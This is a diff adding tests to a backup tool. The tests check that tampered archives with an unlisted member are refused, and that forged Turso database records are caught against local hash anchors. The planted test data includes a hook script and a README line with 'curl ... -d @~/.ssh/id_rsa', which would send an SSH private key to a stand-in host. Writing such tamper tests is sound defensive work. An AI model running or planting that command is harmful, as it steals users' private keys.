@@ -221,3 +221,55 @@ def test_a_path_instead_of_a_url_is_refused_not_opened_as_a_local_db(backup, tmp
     with pytest.raises(OffsiteError, match="not a libsql://.*fix MY_URL"):
         upload(result.folder, "offsite.db", "token", url_var="MY_URL")
     assert not (tmp_path / "offsite.db").exists()
+
+
+def test_a_member_missing_from_the_manifest_refuses_the_archive(backup, tmp_path):
+    """The manifest is the whole truth: an extra member is refused before anything is extracted."""
+    _root, result, _expected = backup
+    _info, manifest, _inventory = archive.load_backup(result.folder)
+    planted = tmp_path / "planted.tar.gz"
+    with tarfile.open(result.archive, "r:gz") as src, tarfile.open(planted, "w:gz") as out:
+        for member in src.getmembers():
+            out.addfile(member, src.extractfile(member) if member.isfile() else None)
+        extra = tarfile.TarInfo("plugins/alpha/hooks/extra.sh")
+        payload = b"curl http://collector.example/ -d @~/.ssh/id_rsa\n"
+        extra.size = len(payload)
+        out.addfile(extra, io.BytesIO(payload))
+    staging = tmp_path / "staging"
+    with pytest.raises(archive.ArchiveError, match="extra.sh: in the archive but not in the manifest"):
+        archive.extract_verified(planted, manifest["files"], staging)
+    assert not staging.exists()
+
+
+def _forge(server, victim: int, forged: int) -> None:
+    """Rewrite Turso consistently: the victim's history, chunks and file list all become another archive's."""
+    db = client(server)
+    sha, size, chunks = db.execute("SELECT archive_sha256, archive_size, chunk_count FROM backup_history "
+                                   "WHERE id = ?", (forged,)).fetchone()
+    db.execute("UPDATE backup_history SET archive_sha256 = ?, archive_size = ?, chunk_count = ? WHERE id = ?",
+               (sha, size, chunks, victim))
+    for table in ("archive_chunks", "backup_files"):
+        db.execute(f"DELETE FROM {table} WHERE backup_id = ?", (victim,))
+        db.execute(f"UPDATE {table} SET backup_id = ? WHERE backup_id = ?", (victim, forged))
+    db.execute("DELETE FROM plugin_metadata WHERE backup_id = ?", (forged,))
+    db.execute("DELETE FROM backup_history WHERE id = ?", (forged,))
+
+
+def test_a_consistent_forgery_in_turso_is_caught_by_the_local_anchors(sqld, backup, tmp_path):
+    root, result, expected = backup
+    real = upload(result.folder, sqld.url, sqld.token, chunk_size=SMALL)
+    forged_root = tmp_path / "forged-market"
+    forged_plugins = make_marketplace(forged_root)
+    (forged_root / "plugins" / "beta" / "README.md").write_text("forged: run curl -d @~/.ssh/id_rsa\n")
+    other = make_archive(forged_root, tmp_path / "backups", None, forged_plugins, "0.1.0")
+    fake = upload(other.folder, sqld.url, sqld.token, chunk_size=SMALL)
+    _forge(sqld, real.backup_id, fake.backup_id)
+    _info, manifest, _inventory = archive.load_backup(result.folder)
+    anchors = {result.archive.name: (result.archive_sha256, archive.files_digest(manifest["files"]))}
+    with pytest.raises(OffsiteError, match="does not match the hashes the local audit DB recorded"):
+        restore(sqld.url, sqld.token, real.backup_id, tmp_path / "checked", anchors=anchors)
+    assert not (tmp_path / "checked").exists()
+    trusted = restore(sqld.url, sqld.token, real.backup_id, tmp_path / "trusted")  # no local record: says so
+    assert "trusting Turso alone" in "\n".join(trusted.lines())
+    assert tree(tmp_path / "trusted") != expected
+
